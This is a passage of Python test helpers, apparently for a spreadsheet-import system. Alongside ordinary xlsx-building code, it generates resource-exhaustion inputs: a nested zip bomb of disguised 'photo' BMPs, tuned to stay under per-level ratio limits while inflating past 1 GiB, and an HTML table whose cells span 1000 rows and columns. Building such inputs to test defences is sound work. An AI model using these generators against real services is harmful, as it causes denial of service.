_SST_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
_SST_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def _saved(wb: openpyxl.Workbook) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return f.pinned(buf.getvalue())


def _read_part(xlsx: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        return zf.read(name)


def _with_parts(xlsx: bytes, parts: dict[str, bytes]) -> bytes:
    """The package with `parts` replaced or added (same pinned time as files.pinned)."""
    src = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    todo = dict(parts)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = todo.pop(info.filename, None)
            _put(dst, info.filename, src.read(info) if data is None else data)
        for name, data in todo.items():
            _put(dst, name, data)
    return out.getvalue()


def _put(dst: zipfile.ZipFile, name: str, data: bytes) -> None:
    info = zipfile.ZipInfo(name, (2021, 4, 20, 8, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    dst.writestr(info, data)


def _sheet_xlsx(rows: Sequence[Sequence[object]], merges: Sequence[str] = ()) -> bytes:
    """An xlsx of `rows` with shared strings, as Excel writes a big sheet: openpyxl writes
    the package, the sheet XML is streamed here (openpyxl needs ~30 s for 200k rows)."""
    strings: dict[str, int] = {}
    out: list[str] = []
    width = 1
    for r, row in enumerate(rows, start=1):
        cells = []
        for c, value in enumerate(row, start=1):
            if value is None:
                continue
            ref = f"{get_column_letter(c)}{r}"
            if isinstance(value, int | float) and not isinstance(value, bool):
                cells.append(f'<c r="{ref}"><v>{value}</v></c>')
            else:
                index = strings.setdefault(str(value), len(strings))
                cells.append(f'<c r="{ref}" t="s"><v>{index}</v></c>')
        width = max(width, len(row))
        out.append(f'<row r="{r}">{"".join(cells)}</row>')
    merged = "".join(f'<mergeCell ref="{rng}"/>' for rng in merges)
    sheet = (
        _SHEET_HEAD.format(dim=f"A1:{get_column_letter(width)}{len(rows)}")
        + "".join(out)
        + "</sheetData>"
        + (f'<mergeCells count="{len(merges)}">{merged}</mergeCells>' if merges else "")
        + _SHEET_TAIL
    )
    sst = (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'count="{len(strings)}" uniqueCount="{len(strings)}">'
        + "".join(f'<si><t xml:space="preserve">{escape(s)}</t></si>' for s in strings)
        + "</sst>"
    )
    skeleton = f.xlsx_bytes([["x"]])
    types = _read_part(skeleton, "[Content_Types].xml").replace(
        b"</Types>",
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{_SST_TYPE}"/></Types>'.encode(),
    )
    rels = _read_part(skeleton, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>",
        f'<Relationship Type="{_SST_REL}" Target="sharedStrings.xml" Id="rId9"/>'
        "</Relationships>".encode(),
    )
    return _with_parts(
        skeleton,
        {
            "[Content_Types].xml": types,
            "xl/_rels/workbook.xml.rels": rels,
            "xl/worksheets/sheet1.xml": sheet.encode(),
            "xl/sharedStrings.xml": sst.encode(),
        },
    )


# --------------------------------------------------------------------------- other payloads


def _bmp_header(width: int, height: int) -> bytes:
    """A 24-bit BMP file header (what Windows' Paint saves)."""
    pixels = width * height * 3
    return (
        b"BM"
        + struct.pack("<IHHI", 54 + pixels, 0, 0, 54)
        + struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, pixels, 2835, 2835, 0, 0)
    )


def _nested_zip(registry_name: str, registry: bytes, levels: int) -> tuple[bytes, int, int]:
    """Zips in zips: each level four white 4096x3840 BMPs (45 MiB each, deflated to ~45 KB),
    a stored photo that keeps the level's ratio under 1:200, and the next level (the registry
    at the bottom). Returns (outermost zip, levels, bytes inflated over all levels)."""
    row_block = b"\xff" * (4096 * 3 * 256)  # 256 rows of white pixels
    photo = bombs.deflate_repeated(_bmp_header(4096, 3840), row_block, 15)
    small = _bmp_header(640, 480) + b"\xff" * (640 * 480 * 3)
    inner: bytes | None = None
    total = 0
    for level in range(levels, 0, -1):
        entries = [
            bombs.Entry(f"第{level}批/活动现场照片{k}.bmp", photo, bombs.DEFLATED)
            for k in range(1, 5)
        ]
        if inner is None:
            entries.append(bombs.deflated(f"第{level}批/{registry_name}", registry))
        else:
            entries.append(bombs.deflated(f"第{level}批/第{level + 1}批材料.zip", inner))
        entries.append(bombs.stored(f"第{level}批/现场照片（原图）.bmp", small))
        inner = bombs.zip_bytes(entries)
        inflated = sum(e.stream.size for e in entries)
        if inflated >= 200_000_000:
            raise AssertionError(f"level {level} inflates to {inflated} bytes, not under 200 MB")
        total += inflated
    if total <= 1 << 30:
        raise AssertionError(f"nested zips inflate to {total} bytes, not over 1 GiB")
    assert inner is not None
    return inner, levels, total


def _span_table_html(rows: list[list[object]], target: int) -> bytes:
    """A web system's "xls" export (an HTML table, GBK) of about `target` bytes whose every
    data cell spans 1000 columns and 1000 rows."""
    data = rows[3:-2]
    head = (
        '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head>'
        '<meta http-equiv="Content-Type" content="text/html; charset=gb2312"></head>'
        "<body><table border=1>\n"
        f'<tr><td colspan="7">{escape(f.TITLE)}</td></tr>\n'
        f'<tr><td colspan="7">{escape(str(rows[1][0]))}</td></tr>\n'
        "<tr>" + "".join(f"<th>{escape(h)}</th>" for h in f.header()) + "</tr>\n"
    ).encode("gbk")
    parts, size, i = [head], len(head), 0
    while size < target:
        cells = "".join(
            f'<td colspan="1000" rowspan="1000">{escape(str(v))}</td>' for v in data[i % len(data)]
        )
        line = f"<tr>{cells}</tr>\n".encode("gbk")
        parts.append(line)
        size += len(line)
        i += 1
    parts.append(b"</table></body></html>")
    return b"".join(parts)
